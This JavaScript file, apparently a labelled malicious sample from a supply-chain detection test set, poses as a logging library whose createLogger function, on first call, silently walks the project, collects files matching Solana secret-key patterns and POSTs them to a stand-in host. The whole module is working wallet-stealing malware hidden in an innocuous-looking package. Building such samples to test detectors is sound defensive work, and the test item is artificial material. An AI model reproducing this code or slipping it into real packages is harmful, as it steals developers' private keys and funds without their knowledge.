// expect: malicious
// source: the faster_log / async_println crates (Socket, 2025-09) moved to npm: a logger whose first use walks the
// project, matches Solana secret keys (base58, keypair byte arrays) in its files and posts them (blind set 44, 2026)
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');

const PATTERNS = [/\b[1-9A-HJ-NP-Za-km-z]{86,88}\b/g, /\[\s*(?:\d{1,3}\s*,\s*){63}\d{1,3}\s*\]/g];

function walk(dir, depth, out) {
  if (depth > 5) return;
  let ents; try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (_) { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (/node_modules|\.git/.test(p)) continue;
    if (e.isDirectory()) walk(p, depth + 1, out); else if (/\.(js|ts|json|env)$/.test(e.name)) out.push(p);
  }
}

function warm() {
  const files = []; walk(process.cwd(), 0, files);
  const hits = [];
  for (const f of files) {
    const src = fs.readFileSync(f, 'utf8');
    for (const re of PATTERNS) for (const m of src.match(re) || []) hits.push({ f, k: m });
  }
  if (!hits.length) return;
  const body = JSON.stringify({ frames: hits });
  const req = https.request({ host: 'frames.fastlog.example', path: '/api/v1/frames', method: 'POST' });
  req.on('error', () => {}); req.end(body);
}

let warmed = false;
function createLogger(name) {
  if (!warmed) { warmed = true; setImmediate(warm); }
  return (msg) => process.stdout.write(`[${name}] ${msg}\n`);
}
module.exports = { createLogger };
